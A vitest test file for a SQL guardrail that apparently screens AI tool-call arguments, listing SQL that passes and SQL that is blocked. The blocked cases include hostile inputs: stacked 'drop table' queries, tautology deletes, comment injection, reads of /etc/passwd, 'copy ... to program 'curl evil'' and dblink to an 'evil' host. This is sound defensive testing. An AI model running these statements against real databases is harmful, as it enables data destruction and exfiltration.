import nodeSqlParser from 'node-sql-parser';
import { describe, expect, it } from 'vitest';
import { guardrailSchema } from '../../../gateway/config/policies/guardrails.ts';
import type { Subject } from '../../../gateway/guardrails/guard.ts';
import { createSqlGuard } from '../../../gateway/guardrails/sql-guard.ts';
import { sqlProblem, type ParseSql } from '../../../gateway/guardrails/sql.ts';

const parser = new nodeSqlParser.Parser();
const parse =
  (database: string): ParseSql =>
  (text) => {
    const tree: unknown = parser.astify(text, { database });
    return Array.isArray(tree) ? (tree as unknown[]) : [tree];
  };
const problem = (sql: string, readOnly = false, dialect = 'postgresql'): string | undefined =>
  sqlProblem(sql, parse(dialect), readOnly);

describe('what is let through', () => {
  it.each([
    'select * from users where id = 1',
    "select count(*) from orders o join users u on o.user_id = u.id where u.name like 'A%' group by u.id",
    'with recent as (select * from orders where created > now()) select * from recent',
    "insert into notes (text) values ('drop table users')",
    "update users set name = 'x' where id = 7 and true",
    'delete from sessions where expires < now()',
    "select 'delete from users' as advice",
    'select * from a union select * from b',
  ])('%s', (sql) => expect(problem(sql)).toBeUndefined());
});

describe('what is not', () => {
  it.each([
    'drop table users',
    'DROP DATABASE prod',
    'truncate table users',
    'truncate users',
    'alter table users add column x int',
    'create table x (id int)',
    'create user eve',
    'grant all on users to eve',
    'revoke all on users from bob',
    'delete from users',
    'delete from users where 1=1',
    'delete from users where true',
    "delete from users where 'a' = 'a'",
    'delete from users where id = id',
    'delete from users where id = 3 or 1 = 1',
    'delete from users where 1 <> 2',
    'update users set admin = true',
    'update users set admin = true where 1=1',
    'update users set admin = true where true or id = 3',
    "update users set name = 'x' where name like '%'",
    'select 1; drop table users',
    'select 1; select 2',
    'select * from users where id = 1; delete from users',
    'with gone as (delete from users returning *) select * from gone',
    'with gone as (update users set a = 1 returning *) select * from gone',
    'select pg_sleep(1000)',
    "select pg_read_file('/etc/passwd')",
    "select * from dblink('host=evil', 'select 1') as t(a int)",
    "copy users to program 'curl evil'",
    "copy users from '/etc/passwd'",
    'do $$ begin delete from users; end $$',
    'call wipe()',
    'execute stored',
    'set role admin',
    'vacuum full',
    'this is no sql',
    'select * from users into outfile',
    'explain analyze delete from users',
    '',
    'delete /* where id = 1 */ from users',
    'delete from users -- where id = 1',
  ])('%s', (sql) => expect(problem(sql)).toBeTypeOf('string'));

  it.each([
    'select /*!50000 1; drop table users */ 1',
    '/*! drop table users */',
    "select load_file('/etc/passwd')",
    'select sleep(100)',
    'select benchmark(100000000, md5(1))',
    'select * from users into outfile "/tmp/x"',
    'load data infile "/etc/passwd" into table t',
    'delete from users limit 10',
    'replace into users select * from others; truncate users',
    'rename table a to b',
  ])('of MySQL: %s', (sql) => expect(problem(sql, false, 'mysql')).toBeTypeOf('string'));

  it.each([
    'insert into users (id) values (1)',
    'update users set a = 1 where id = 1',
    'delete from users where id = 1',
    'with w as (insert into users (id) values (1) returning *) select * from w',
    'select * into copied from users',
  ])('where it may only read: %s', (sql) => expect(problem(sql, true)).toBeTypeOf('string'));
});

describe('the arguments that are looked at', () => {
  const guard = createSqlGuard(
    guardrailSchema.parse({ kind: 'sql', name: 'safe', hooks: ['toolArguments'] }) as Parameters<
      typeof createSqlGuard
    >[0],
  );
  const asked = async (value: unknown): Promise<string> => (await guard({ value } as Subject)).is;

  it.each([
    [{ sql: 'drop table users' }],
    [{ query: ['select 1', 'drop table users'] }],
    [{ options: { statement: { text: 'drop table users' } } }],
    [{ batch: [{ sql: 'select 1' }, { sql: 'drop table users' }] }],
  ])('%j', async (value) => expect(await asked(value)).toBe('block'));

  it('are the named ones alone', async () => {
    expect(await asked({ text: 'drop table users', sql: 'select 1' })).toBe('pass');
  });
});
